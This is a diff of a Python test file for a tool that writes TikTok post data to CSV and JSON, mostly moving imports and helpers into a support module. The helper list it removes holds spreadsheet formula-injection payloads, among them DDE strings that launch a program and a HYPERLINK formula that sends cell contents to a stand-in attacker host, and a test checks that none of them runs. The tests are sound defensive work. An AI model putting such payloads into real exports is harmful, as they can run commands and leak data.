@@ -20,7 +20,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tests.payloads import (
+from tests.support.payloads import (
     ANSWERED,
     DOUYIN_ID,
     ECHOED_KEY,
@@ -37,12 +37,15 @@ from tests.payloads import (
     tiktok_post,
     video,
 )
-from tikhub_mcp import files, spool, summary
-from tikhub_mcp.answer import Json
-from tikhub_mcp.columns import COLUMNS
+from tests.support.summary_faults import FORMULAS, Full, poisoned
 from tikhub_mcp.errors import DiskFull, InvalidInput, NotWritable
-from tikhub_mcp.fields import LARGEST_ODD
-from tikhub_mcp.summary import CSV_NAME, HISTORY_NAME, JSON_NAME, LARGEST_FILE, Stopped, summarize
+from tikhub_mcp.posts.answer import Json
+from tikhub_mcp.storage import reading
+from tikhub_mcp.summary import spool
+from tikhub_mcp.summary import summarize as summary_summarize
+from tikhub_mcp.summary.columns import COLUMNS
+from tikhub_mcp.summary.rows import LARGEST_ODD
+from tikhub_mcp.summary.summarize import CSV_NAME, HISTORY_NAME, JSON_NAME, LARGEST_FILE, Stopped, summarize
 
 CONTRACT = (
     "source_file,parse_ok,error,request_id,api_code,api_message,router,share_url,cache_url,aweme_id,"
@@ -477,28 +480,6 @@ def test_a_text_longer_than_a_cell_of_excel_is_cut_in_the_csv_alone(raw: Path, t
     assert table(raw.parent / "out")[0]["content_desc"] == expected
 
 
-FORMULAS = [f"{start}1+1" for start in "=+-@\t\r\n＝＋－＠"] + [
-    "  =1+1",
-    "\u3000=1+1",
-    "\xa0@SUM(1)",
-    '"=1+1',
-    "=cmd|' /C calc'!A0",
-    "cmd|' /C calc'!A0",
-    "cmd|\0'/C calc'!A0",
-    "\x00=1+1",
-    '=HYPERLINK("https://evil.example/?"&A1,"click")',
-]
-
-
-def poisoned(text: str) -> Object:
-    """An answer with the text in every field that is text."""
-    keys = "uid unique_id sec_uid nickname account_region id_str title owner_nickname ratio"
-    part = dict.fromkeys(keys.split(), text) | {"play_addr": {"url_list": [text]}, "cover": {"url_list": [text]}}
-    texts = dict.fromkeys(("aweme_id", "desc", "content_desc"), text)
-    post = tiktok_post(**texts, author=part, music=part, video=part, text_extra=[{"hashtag_name": text}])
-    return envelope(post, request_id=text, message=text, router=text, cache_url=text, params={"share_url": text})
-
-
 @pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
 def test_no_cell_of_the_csv_can_run_as_a_formula(raw: Path, formula: str) -> None:
     row = row_of(raw, poisoned(formula))
@@ -675,7 +656,7 @@ def test_a_summary_that_cannot_be_opened_is_a_row(raw: Path, monkeypatch: pytest
     def refuse(_path: str, _flags: int) -> int:
         raise PermissionError(errno.EACCES, "Permission denied")
 
-    for module in (summary, files):
+    for module in (summary_summarize, reading):
         monkeypatch.setattr(module, "careful", refuse)
     assert [row["error"] for row in run(raw)] == ["The file cannot be read: Permission denied."]
 
@@ -868,7 +849,7 @@ def test_a_file_of_50_mb_takes_less_than_300_mib(raw: Path, head: bytes) -> None
     program = """
 import sys
 from pathlib import Path
-from tikhub_mcp.summary import summarize
+from tikhub_mcp.summary.summarize import summarize
 print(summarize(Path(sys.argv[1]), Path(sys.argv[2])).found.parsed)
 print(next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM")))
 """
@@ -954,22 +935,6 @@ def test_whatever_call_fails_both_outputs_are_whole_and_no_part_is_left(
     assert left(out) == WRITTEN
     assert len(strict(out / JSON_NAME)["videos"]) in (1, 2)
     assert len(table(out)) in (1, 2)
-
-
-class Full:
-    """A file on a disk that is full after so many writes."""
-
-    def __init__(self, file: Json, writes: int) -> None:
-        self.file, self.writes = file, writes
-
-    def __getattr__(self, name: str) -> Json:
-        return getattr(self.file, name)
-
-    def write(self, content: bytes) -> Json:
-        self.writes -= 1
-        if self.writes < 0:
-            raise OSError(errno.ENOSPC, "No space left on device")
-        return self.file.write(content[:1000])  # a short write is no failure
 
 
 @pytest.mark.parametrize("writes", [0, 1, 3])
